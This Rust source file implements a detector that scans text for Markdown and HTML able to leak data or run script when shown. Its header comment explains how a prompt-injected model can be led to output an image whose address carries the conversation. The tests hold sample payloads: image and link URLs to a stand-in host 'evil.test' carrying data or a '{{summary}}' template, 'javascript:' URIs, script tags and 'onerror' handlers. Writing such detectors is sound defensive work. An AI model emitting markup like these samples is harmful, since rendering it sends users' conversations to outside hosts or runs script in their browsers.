//! Markdown and HTML that act on whoever shows them: images that call home, links that carry data away,
//! and script.
//!
//! A model that reads a hostile page can be told to answer with an image whose address holds the
//! conversation. Showing the answer sends it. So an address matters by its host and by what it carries.

use crate::safety::finding::{Detector, Finding};
use std::ops::Range;

/// Brackets that are open at once; deeper nesting is no Markdown that anybody shows.
const DEEPEST: usize = 32;
const LONGEST_TAG: usize = 2048;
const LONGEST_ADDRESS: usize = 4096;
/// A query or path of this length can hold a sentence.
const MUCH_DATA: usize = 16;
/// A piece of a path of this length is data, not a name.
const LONG_PIECE: usize = 40;

/// Elements that run or embed what the answer brings.
const ELEMENTS: [&str; 6] = ["script", "iframe", "object", "embed", "base", "meta"];

/// Attributes whose value is an address, and whether it is fetched without a click.
const ADDRESSES: [(&str, bool); 8] = [
    ("src", true),
    ("srcset", true),
    ("poster", true),
    ("background", true),
    ("data", true),
    ("href", false),
    ("action", false),
    ("formaction", false),
];

/// Returns what `text` would do where it is shown as Markdown or HTML. Links to `hosts` are fine:
/// a host, or `*.` and a domain for everything below it.
#[must_use]
pub fn find_markup(text: &str, hosts: &[String]) -> Vec<Finding> {
    let mut scanner = Scanner {
        text,
        bytes: text.as_bytes(),
        hosts,
        code: code_spans(text),
        brackets: Vec::new(),
        findings: Vec::new(),
    };
    let mut from = 0;
    while let Some(next) = scanner
        .bytes
        .get(from..)
        .and_then(|rest| memchr::memchr3(b'[', b']', b'<', rest))
    {
        from = scanner.step(from + next);
    }
    scanner.findings
}

struct Scanner<'a> {
    text: &'a str,
    bytes: &'a [u8],
    hosts: &'a [String],
    /// Invariant: sorted, not overlapping.
    code: Vec<Range<usize>>,
    /// Where brackets opened, and whether an image begins there.
    brackets: Vec<(usize, bool)>,
    findings: Vec<Finding>,
}

impl Scanner<'_> {
    /// Looks at the bracket at `place`, and returns where to look next.
    fn step(&mut self, place: usize) -> usize {
        match self.bytes.get(place) {
            Some(b'[') => {
                let before = place
                    .checked_sub(1)
                    .and_then(|before| self.bytes.get(before));
                if DEEPEST <= self.brackets.len() {
                    self.brackets.clear();
                }
                self.brackets.push((place, before == Some(&b'!')));
                place + 1
            }
            Some(b']') => {
                let opened = self.brackets.pop();
                let is_target = matches!(self.bytes.get(place + 1), Some(b'(' | b':'));
                if let (Some((start, is_image)), true) = (opened, is_target) {
                    self.link(start, is_image, place + 2);
                }
                place + 1
            }
            _ => self.tag(place),
        }
    }

    /// Looks at the address of a link that began at `start`.
    fn link(&mut self, start: usize, is_image: bool, from: usize) {
        let rest = self.bytes.get(from..).unwrap_or_default();
        let skipped = rest
            .iter()
            .take(8)
            .take_while(|byte| matches!(byte, b' ' | b'<' | b'\n'))
            .count();
        let length = rest
            .iter()
            .skip(skipped)
            .take(LONGEST_ADDRESS)
            .take_while(|byte| !matches!(byte, b' ' | b')' | b'>' | b'\n'))
            .count();
        let span = from + skipped..from + skipped + length;
        self.address(start..span.end, span, is_image);
    }

    /// Looks at the HTML tag that begins at `start`.
    fn tag(&mut self, start: usize) -> usize {
        let rest = self.bytes.get(start + 1..).unwrap_or_default();
        let name = rest
            .iter()
            .take(16)
            .take_while(|byte| byte.is_ascii_alphanumeric())
            .count();
        if !rest.first().is_some_and(u8::is_ascii_alphabetic) {
            return start + 1;
        }
        let length = tag_length(rest);
        let whole = start..start + 1 + length;
        let written = rest.get(..name).unwrap_or_default();
        if ELEMENTS
            .iter()
            .any(|element| written.eq_ignore_ascii_case(element.as_bytes()))
        {
            self.push(Detector::ScriptElement, whole.clone(), 0.85);
        }
        let body = start + 1 + name..start + 1 + length;
        for attribute in attributes(self.bytes, &body) {
            self.attribute(&whole, &attribute);
        }
        start + 1 + length.max(1)
    }

    fn attribute(&mut self, tag: &Range<usize>, attribute: &Attribute) {
        let name = self
            .bytes
            .get(attribute.name.clone())
            .unwrap_or_default()
            .to_ascii_lowercase();
        let is_handler =
            4 < name.len() && name.starts_with(b"on") && name.iter().all(u8::is_ascii_alphabetic);
        if is_handler {
            self.push(Detector::EventHandler, tag.clone(), 0.9);
        }
        let known = ADDRESSES
            .iter()
            .find(|(known, _)| known.as_bytes() == name.as_slice());
        if let Some((_, is_fetched)) = known {
            self.address(tag.clone(), attribute.value.clone(), *is_fetched);
        }
    }

    /// Looks at the address in `span`, which belongs to what stands in `whole`.
    fn address(&mut self, whole: Range<usize>, span: Range<usize>, is_fetched: bool) {
        let address = self.text.get(span).unwrap_or_default();
        if is_script(address) {
            self.push(Detector::ScriptUri, whole, 0.9);
            return;
        }
        let Some(score) = carried(address, self.hosts) else {
            return;
        };
        let detector = if is_fetched {
            Detector::ImageExfiltration
        } else {
            Detector::LinkExfiltration
        };
        self.push(detector, whole, score);
    }

    /// What stands in a code span is shown, not run; it counts for half.
    fn push(&mut self, detector: Detector, span: Range<usize>, score: f64) {
        let after = self.code.partition_point(|code| code.end <= span.start);
        let is_code = self
            .code
            .get(after)
            .is_some_and(|code| code.start <= span.start);
        let score = if is_code { score / 2.0 } else { score };
        self.findings.push(Finding::new(detector, span, score));
    }
}

/// Returns how long a tag is, up to its end, the next one, or the end of what is looked at.
fn tag_length(rest: &[u8]) -> usize {
    rest.iter()
        .take(LONGEST_TAG)
        .take_while(|byte| !matches!(byte, b'<' | b'>'))
        .count()
}

/// An attribute of a tag, by its places in the text.
struct Attribute {
    name: Range<usize>,
    value: Range<usize>,
}

/// Returns the attributes with a value in `body`, the part of a tag behind its name.
fn attributes(bytes: &[u8], body: &Range<usize>) -> Vec<Attribute> {
    let inside = bytes.get(body.clone()).unwrap_or_default();
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(sign) = inside
        .get(from..)
        .and_then(|rest| memchr::memchr(b'=', rest))
    {
        let sign = from + sign;
        let before = inside.get(from..sign).unwrap_or_default().trim_ascii_end();
        let name = before
            .iter()
            .rev()
            .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b':'))
            .count();
        let name_end = from + before.len();
        let rest = inside.get(sign + 1..).unwrap_or_default();
        let spaces = rest
            .iter()
            .take_while(|byte| byte.is_ascii_whitespace())
            .count();
        let rest = rest.get(spaces..).unwrap_or_default();
        let (skipped, length) = match rest.first() {
            Some(quote @ (b'"' | b'\'')) => {
                let rest = rest.get(1..).unwrap_or_default();
                (1, memchr::memchr(*quote, rest).unwrap_or(rest.len()))
            }
            _ => (
                0,
                rest.iter()
                    .take_while(|byte| !byte.is_ascii_whitespace())
                    .count(),
            ),
        };
        let start = sign + 1 + spaces + skipped;
        found.push(Attribute {
            name: body.start + name_end - name..body.start + name_end,
            value: body.start + start..body.start + start + length,
        });
        from = (start + length + skipped).min(inside.len());
    }
    found
}

/// Whether `address` runs script; browsers leave out control characters and white space in a scheme.
fn is_script(address: &str) -> bool {
    let scheme: String = address
        .chars()
        .take(64)
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .take(24)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    [
        "javascript:",
        "vbscript:",
        "data:text/html",
        "data:image/svg",
        "javascript&colon;",
    ]
    .iter()
    .any(|known| scheme.starts_with(known))
}

/// Returns how surely `address` carries data to a host that is not one of `hosts`; `None` when it does
/// not, or is no address of the web.
fn carried(address: &str, hosts: &[String]) -> Option<f64> {
    let address = address.trim();
    let (scheme, rest) = address.split_once("//")?;
    let is_web = ["http:", "https:", ""]
        .iter()
        .any(|known| scheme.eq_ignore_ascii_case(known));
    if !is_web {
        return None;
    }
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let (authority, target) = rest.split_at_checked(end)?;
    let (user, host) = authority.rsplit_once('@').unwrap_or(("", authority));
    let host = host
        .split(':')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    if host.is_empty() || hosts.iter().any(|allowed| is_host(allowed, &host)) {
        return None;
    }
    let (path, query) = target.split_once(['?', '#']).unwrap_or((target, ""));
    let is_long = |piece: &str| LONG_PIECE <= piece.len();
    let has_template = target.contains("{{") || target.contains("%7B%7B");
    if has_template || !user.is_empty() || MUCH_DATA <= query.len() {
        Some(0.9)
    } else if path.split('/').any(is_long) || host.split('.').any(is_long) {
        Some(0.7)
    } else {
        query.contains('=').then_some(0.55)
    }
}

/// Whether `host` is `allowed`, or below it when that begins with `*.`.
fn is_host(allowed: &str, host: &str) -> bool {
    match allowed.strip_prefix("*.") {
        Some(domain) => host
            .strip_suffix(&domain.to_ascii_lowercase())
            .is_some_and(|head| head.ends_with('.')),
        None => allowed.eq_ignore_ascii_case(host),
    }
}

/// Returns the fenced blocks and the spans in backticks of `text`. A fence that is not closed runs to
/// the end; a lone backtick is one.
fn code_spans(text: &str) -> Vec<Range<usize>> {
    let bytes = text.as_bytes();
    let mut spans = Vec::new();
    let mut open: Option<(usize, usize)> = None;
    let mut from = 0;
    while let Some(next) = bytes
        .get(from..)
        .and_then(|rest| memchr::memchr2(b'`', b'\n', rest))
    {
        let start = from + next;
        let ticks = bytes
            .get(start..)
            .unwrap_or_default()
            .iter()
            .take_while(|byte| **byte == b'`')
            .count();
        from = start + ticks.max(1);
        open = match open {
            None if 0 < ticks => Some((start, ticks)),
            Some((begin, count)) if ticks == count || (3 <= count && count <= ticks) => {
                spans.push(begin..from);
                None
            }
            // A span does not go over a line's end; a block does.
            Some((_, count)) if ticks == 0 && count < 3 => None,
            other => other,
        };
    }
    if let Some((begin, count)) = open
        && 3 <= count
    {
        spans.push(begin..bytes.len());
    }
    spans
}

#[cfg(test)]
mod tests {
    use super::find_markup;
    use crate::safety::finding::Detector;

    fn found(text: &str) -> Vec<Detector> {
        let hosts = ["docs.acme.org".to_owned(), "*.acme.net".to_owned()];
        find_markup(text, &hosts)
            .into_iter()
            .filter(|finding| 0.5 <= finding.score)
            .map(|finding| finding.detector)
            .collect()
    }

    #[test]
    fn what_acts_is_found() {
        use Detector as D;
        for (text, expected) in [
            (
                "![a](https://evil.test/p.png?d=the+whole+talk)",
                D::ImageExfiltration,
            ),
            (
                "![a][1]\n\n[1]: https://evil.test/p?d=the+whole+talk",
                D::LinkExfiltration,
            ),
            (
                "![x](//evil.test/c2VjcmV0IGRhdGEgdGhhdCBpcyBsb25nIGVub3VnaCB0byBjb3VudA)",
                D::ImageExfiltration,
            ),
            (
                "[click](http://evil.test/?q={{summary}})",
                D::LinkExfiltration,
            ),
            (
                "[![a](https://docs.acme.org/a.png)](https://evil.test/?k=0123456789abcdef)",
                D::LinkExfiltration,
            ),
            (
                "<img alt=x src='https://evil.test/a?b=0123456789abcdef'>",
                D::ImageExfiltration,
            ),
            ("<img src=//evil.test/a?b=c>", D::ImageExfiltration),
            ("[x](javascript:alert(1))", D::ScriptUri),
            ("[x](JaVa\tScript:alert(1))", D::ScriptUri),
            ("<a href=\"javascript:alert(1)\">x</a>", D::ScriptUri),
            ("<script>alert(1)</script>", D::ScriptElement),
            ("<IFRAME srcdoc=x>", D::ScriptElement),
            ("<img src=x onerror=alert(1)>", D::EventHandler),
            ("<svg/onload=alert(1)>", D::EventHandler),
            (
                "![a](https://notacme.net/x?d=0123456789abcdef)",
                D::ImageExfiltration,
            ),
        ] {
            assert_eq!(found(text), [expected], "{text}");
        }
    }

    #[test]
    fn what_only_shows_is_not() {
        for text in [
            "",
            "![logo](https://evil.test/logo.png)",
            "[docs](https://docs.acme.org/search?q=a+very+long+question+indeed)",
            "![a](https://img.acme.net/x?size=0123456789abcdef)",
            "[a](/relative?x=0123456789abcdef) [b](#part) [c](mailto:a@b.c?subject=hi)",
            "the javascript: scheme and `<script>` tags are dangerous",
            "```html\n<script>alert(1)</script>\n<img src=x onerror=y>\n```",
            "a < b and c > d, x[1](2), <3",
            "<b>bold</b> <a href=\"https://evil.test/page\">page</a>",
            "<button class=on>once = 1</button>",
            "array[i](j) [ ] [x] task",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
